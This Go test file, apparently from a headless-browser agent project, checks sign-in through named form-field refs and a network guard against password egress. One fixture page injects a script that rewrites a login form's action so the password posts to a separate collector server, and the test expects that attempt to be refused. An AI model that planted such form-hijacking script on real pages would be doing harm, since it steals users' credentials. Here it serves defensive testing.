//go:build linux

package tests

// Issue 43, point 3: when the host's guess of the sign-in form is wrong, the agent names the
// fields by the refs of its last snapshot. The page here has two password forms the guess
// cannot tell apart for this credential (an admin sign-in and a support sign-in, side by side):
// named, the right one signs in; a ref that is not an input of type password, one that is in a
// frame, and an unknown one are refused before anyone is asked; and naming a field changes
// nothing of where the password may go (a named form whose script posts elsewhere is refused by
// the network guard).

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/headless-dev/headless/internal/broker/presence/presencetest"
)

func TestSignInByNamedFields(t *testing.T) {
	parallel(t)
	e := newEnv(t, envOptions{})
	book := newSiteBook(http.Cookie{Name: "nf_sid"})
	var agentGot []string
	agent := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		r.ParseForm()
		book.mu.Lock()
		agentGot = append(agentGot, r.URL.String()+" "+r.PostForm.Encode())
		book.mu.Unlock()
	}))
	t.Cleanup(agent.Close)
	mux := http.NewServeMux()
	twoForms := func(supportAction string) string {
		return `<h1>Sign in</h1>
<section><h2>Administrators</h2>
<form method="post" action="/admin-login"><label>Admin name <input name="admin_user"></label>
 <label>Admin password <input type="password" name="admin_pw"></label><button>Sign in</button></form></section>
<section><h2>Support staff</h2>
<form method="post" action="` + supportAction + `"><label>Staff e-mail <input type="email" name="staff_mail"></label>
 <label>Staff password <input type="password" name="staff_pw"></label><button>Sign in</button></form></section>
<iframe src="/framed" title="help"></iframe>`
	}
	mux.HandleFunc("GET /login", func(w http.ResponseWriter, r *http.Request) { htmlPage(w, "Sign in", "", twoForms("/staff-login")) })
	mux.HandleFunc("GET /login-elsewhere", func(w http.ResponseWriter, r *http.Request) {
		htmlPage(w, "Sign in", "", twoForms("/staff-login")+`<script>
document.querySelectorAll("form")[1].addEventListener("submit", function () { this.action = "`+agent.URL+`/collect"; });
</script>`)
	})
	mux.HandleFunc("GET /framed", func(w http.ResponseWriter, r *http.Request) {
		htmlPage(w, "Help", "", `<input type="password" name="framed_pw" aria-label="framed">`)
	})
	mux.HandleFunc("POST /staff-login", book.formLogin("site", "/staff-login", "staff_mail", "staff_pw"))
	mux.HandleFunc("POST /admin-login", func(w http.ResponseWriter, r *http.Request) {
		r.ParseForm()
		book.record(loginPost{"site", "/admin-login", r.PostForm.Get("admin_user"), r.PostForm.Get("admin_pw")})
		htmlPage(w, "Sign in", "", `<p role="alert">Invalid credentials</p>`)
	})
	mux.HandleFunc("GET /home", book.home)
	site := httptest.NewServer(mux)
	t.Cleanup(site.Close)

	const account = "staff@example.test"
	pw := newCanary()
	book.SetAccount(account, pw)
	approve, approveLog := presencetest.FakePinentry(t, "approve")
	lsPresence(e, approve, 5)
	lsEnroll(t, e, site.URL, "staff", account, pw)
	e.start(t)
	prompts := func() int { return len(presencetest.Prompts(t, approveLog)) }

	refs := func(t *testing.T) map[string]string {
		t.Helper()
		r := e.run("", "headless", "snapshot", "--json")
		var o outline
		if r.code != 0 || json.Unmarshal([]byte(r.stdout), &o) != nil {
			t.Fatalf("snapshot: %+v", r)
		}
		out := map[string]string{}
		for _, el := range o.Elements {
			switch {
			case el.Name != "":
				out[el.Name] = el.Ref
			case el.Kind == "button":
				out["button"] = el.Ref // the last: the support form's
			}
		}
		return out
	}
	login := func(args ...string) result {
		return e.run("", "headless", append([]string{"auth", "login", "--alias", "staff", "--json"}, args...)...)
	}

	t.Run("refused before anyone is asked", func(t *testing.T) {
		e.run("", "headless", "visit", site.URL+"/login", "--json")
		n := prompts()
		// (Each sign-in looks at the page itself, which makes the agent's refs stale: a fresh
		// snapshot before each.)
		for _, c := range []struct {
			args func(f map[string]string) []string
			code string
		}{
			{func(f map[string]string) []string { return []string{"--password-field", f["staff_mail"]} }, "INVALID_ARGUMENT"},
			{func(f map[string]string) []string {
				return []string{"--password-field", f["staff_pw"], "--account-field", f["admin_pw"]}
			}, "INVALID_ARGUMENT"},
			{func(map[string]string) []string { return []string{"--password-field", "e999"} }, "REF_UNKNOWN"},
			{func(f map[string]string) []string { return []string{"--account-field", f["staff_mail"]} }, "USAGE"},
		} {
			args := c.args(refs(t))
			if r := login(args...); r.code == 0 || errCode(t, r) != c.code {
				t.Errorf("auth login %v: %+v, want %s", args, r, c.code)
			}
		}
		if prompts() != n {
			t.Errorf("the person was asked for refused fields")
		}
	})
	t.Run("the named form signs in", func(t *testing.T) {
		e.run("", "headless", "visit", site.URL+"/login", "--json")
		f := refs(t)
		r := login("--password-field", f["staff_pw"], "--account-field", f["staff_mail"], "--submit", f["button"], "--new-login-path")
		if r.code != 0 || !strings.Contains(r.stdout, `"status":"authenticated"`) {
			t.Fatalf("auth login with named fields: %+v", r)
		}
		posts := book.Posts()
		if len(posts) == 0 || posts[len(posts)-1].Path != "/staff-login" {
			t.Fatalf("the named form was not the one submitted: %v", posts)
		}
	})
	t.Run("naming changes nothing of where it may go", func(t *testing.T) {
		e.run("", "headless", "visit", site.URL+"/logout", "--json")
		e.run("", "headless", "visit", site.URL+"/login-elsewhere", "--json")
		f := refs(t)
		r := login("--password-field", f["staff_pw"], "--account-field", f["staff_mail"], "--submit", f["button"], "--new-login-path")
		if r.code == 0 || errCode(t, r) != "SECRET_EGRESS" {
			t.Fatalf("auth login with named fields of a form posting elsewhere: %+v, want SECRET_EGRESS", r)
		}
		book.mu.Lock()
		defer book.mu.Unlock()
		for _, g := range agentGot {
			for _, n := range lsNeedles("password", pw) {
				if strings.Contains(g, string(n.b)) {
					t.Fatalf("LEAK: the agent's server got %s", n.name)
				}
			}
		}
	})
}
